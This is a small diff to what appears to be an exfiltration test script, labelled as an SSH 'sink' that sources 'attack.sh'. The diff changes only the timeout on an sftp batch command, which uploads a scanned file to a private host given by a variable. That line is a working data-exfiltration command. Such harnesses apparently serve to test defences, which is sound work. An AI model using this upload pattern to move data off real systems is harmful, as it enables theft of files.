@@ -4,4 +4,4 @@
 # sink: private-ssh
 
 . attack.sh
-timeout 9 sftp -q -P "$PORT_SSH" -b - "keeper@$PRIVATE_HOST" <<<"put $SCAN $here.tif"
+timeout 20 sftp -q -P "$PORT_SSH" -b - "keeper@$PRIVATE_HOST" <<<"put $SCAN $here.tif"
